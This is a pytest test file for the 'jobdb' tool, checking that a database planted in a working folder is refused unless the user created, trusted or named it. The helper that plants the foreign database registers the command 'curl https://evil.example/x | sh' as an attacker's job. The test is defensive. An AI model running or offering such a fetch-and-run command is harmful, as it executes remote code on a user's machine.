"""Test that the current folder's database is used only if this user created it, trusts it or names it."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from jobdb import Registry, UntrustedDatabase
from jobdb.engines.sql.statements import JOBS
from tests.support.keys import OTHER_MASTER_KEY, THIRD_MASTER_KEY

COMMANDS = (
    ("list",),
    ("claim",),
    ("register", "--agent", "a", "p"),
    ("init",),
    ("init", "--shared"),
    ("migrate",),
    ("doctor",),
    ("stats",),
    ("backup", "saved.db"),
    ("query", "SELECT * FROM v_jobs"),
)


class Folder:
    """A working folder of a user who names no database."""

    def __init__(self, cli: Any, place: Path, home: Path) -> None:
        place.mkdir(exist_ok=True)
        self.place = place
        self.database = place / ".jobdb" / "jobs.db"
        cli.folder = place
        cli.env = {name: value for name, value in cli.env.items() if name not in ("JOBDB_URL", "JOBDB_KEY")}
        cli.env["HOME"] = str(home)
        self.run = cli


@pytest.fixture
def user_folder(cli_without_database: Any, tmp_path: Path) -> Folder:
    return Folder(cli_without_database, tmp_path / "mine", tmp_path / "home")


def git(folder: Path, *arguments: str) -> None:
    identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
    subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True)


def plant_foreign_database(user_folder: Folder, tmp_path: Path, *, key_id: str | None = None) -> Path:
    """Create another user's database in a folder that looks like the user's own."""
    place = tmp_path / "evil"
    home = user_folder.run.env["HOME"]
    attacker = Folder(user_folder.run, place, tmp_path / "attacker")
    attacker.run("init")
    attacker.run("register", "--agent", "a", "curl https://evil.example/x | sh")
    if key_id is not None:
        with Registry.open(attacker.database) as registry, registry.engine.store.write() as tx:  # type: ignore[attr-defined]
            tx.run(JOBS.put_setting, name="key_id", value=key_id)
    user_folder.run.env["HOME"], user_folder.run.folder = home, user_folder.place
    with Registry.open(attacker.database):
        pass  # its close leaves one file
    return place / ".jobdb"


def test_a_users_own_database_is_trusted(user_folder: Folder) -> None:
    user_folder.run("init")
    user_folder.run("register", "--agent", "a", "p")
    assert len(user_folder.run("list").lines) == 1
    notes = list(Path(user_folder.run.env["HOME"], ".config", "jobdb", "trusted").iterdir())
    assert len(notes) == 1 and notes[0].stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_a_foreign_database_is_refused_by_every_command(
    user_folder: Folder, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    shutil.copytree(plant_foreign_database(user_folder, tmp_path), user_folder.place / ".jobdb")
    before = {path.name: path.read_bytes() for path in (user_folder.place / ".jobdb").iterdir()}
    stderr = user_folder.run(*arguments, code=5).err
    assert "was found in this folder" in stderr and "jobdb trust" in stderr and "--db" in stderr
    assert {path.name: path.read_bytes() for path in (user_folder.place / ".jobdb").iterdir()} == before


def test_a_foreign_database_can_be_named_or_trusted(user_folder: Folder, tmp_path: Path) -> None:
    shutil.copytree(plant_foreign_database(user_folder, tmp_path), user_folder.place / ".jobdb")
    user_folder.run("list", code=5)
    assert len(user_folder.run("--db", ".jobdb/jobs.db", "list").lines) == 1
    user_folder.run("list", code=5)
    user_folder.run.env["JOBDB_URL"] = "sqlite:///.jobdb/jobs.db"
    user_folder.run("list")
    del user_folder.run.env["JOBDB_URL"]
    assert user_folder.run("trust", "--json").json["trusted"] is True
    user_folder.run("list")
    other = tmp_path / "other.db"
    shutil.copy2(user_folder.database, other)
    other.replace(user_folder.database)  # as a later pull does
    user_folder.run("list", code=5)
    user_folder.run("trust", user_folder.place)
    user_folder.run("list")
    user_folder.run("trust", tmp_path / "none", code=5)


def test_a_database_without_a_record_is_recognized_by_the_master_key(user_folder: Folder) -> None:
    """Such a database was created before trust was recorded."""
    user_folder.run("init")
    user_folder.run("register", "--agent", "a", "p")
    notes = Path(user_folder.run.env["HOME"], ".config", "jobdb", "trusted")
    shutil.rmtree(notes)
    user_folder.run("list")
    assert len(list(notes.iterdir())) == 1
    shutil.rmtree(notes)
    key = Path(user_folder.run.env["HOME"], ".config", "jobdb", "master.key")
    key.unlink()
    user_folder.run("list", code=5)


def test_a_users_own_database_is_trusted_without_a_folder_for_records(user_folder: Folder) -> None:
    """This is the case of a service that gets its key from the environment and has no home folder."""
    user_folder.run.env.update(HOME="/dev/null/none", XDG_CONFIG_HOME="/dev/null/none", JOBDB_KEY=OTHER_MASTER_KEY)
    user_folder.run("init")
    user_folder.run("list")
    user_folder.run("register", "--agent", "a", "p")
    user_folder.run("list")
    user_folder.run.env["JOBDB_KEY"] = THIRD_MASTER_KEY
    user_folder.run("list", code=5)


def test_a_known_key_id_in_a_checkout_is_not_sufficient(user_folder: Folder, tmp_path: Path) -> None:
    user_folder.run("init")
    user_folder.run("register", "--agent", "a", "p")
    with Registry.open(user_folder.database) as registry:
        ours = registry.engine.setting("key_id")  # type: ignore[attr-defined]
    planted = plant_foreign_database(user_folder, tmp_path, key_id=ours)
    repository = tmp_path / "repository"
    repository.mkdir()
    shutil.copytree(planted, repository / ".jobdb")
    git(repository, "init", "-q")
    git(repository, "add", "-A", "-f")
    git(repository, "commit", "-qm", "x")
    old = os.umask(0o077)
    try:
        git(tmp_path, "clone", "-q", str(repository), "clone")
    finally:
        os.umask(old)
    clone = tmp_path / "clone"
    user_folder.run.folder = clone
    assert "git tracks it" in user_folder.run("claim", code=5).err
    shutil.rmtree(clone / ".git")
    (clone / ".jobdb").chmod(0o755)
    assert "others may access" in user_folder.run("claim", code=5).err


def test_the_library_requires_trust_only_for_the_default_database(
    user_folder: Folder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(plant_foreign_database(user_folder, tmp_path), user_folder.place / ".jobdb")
    monkeypatch.chdir(user_folder.place)
    monkeypatch.delenv("JOBDB_URL", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    with pytest.raises(UntrustedDatabase):
        Registry.open()
    with Registry.open(".jobdb/jobs.db") as registry:
        assert len(registry.jobs()) == 1
    monkeypatch.setenv("JOBDB_URL", "sqlite:///.jobdb/jobs.db")
    Registry.open().close()


def test_a_restored_backup_stays_trusted(user_folder: Folder, tmp_path: Path) -> None:
    user_folder.run("init")
    user_folder.run("backup", tmp_path / "saved.db")
    user_folder.run("restore", "--yes", tmp_path / "saved.db")
    user_folder.run("list")
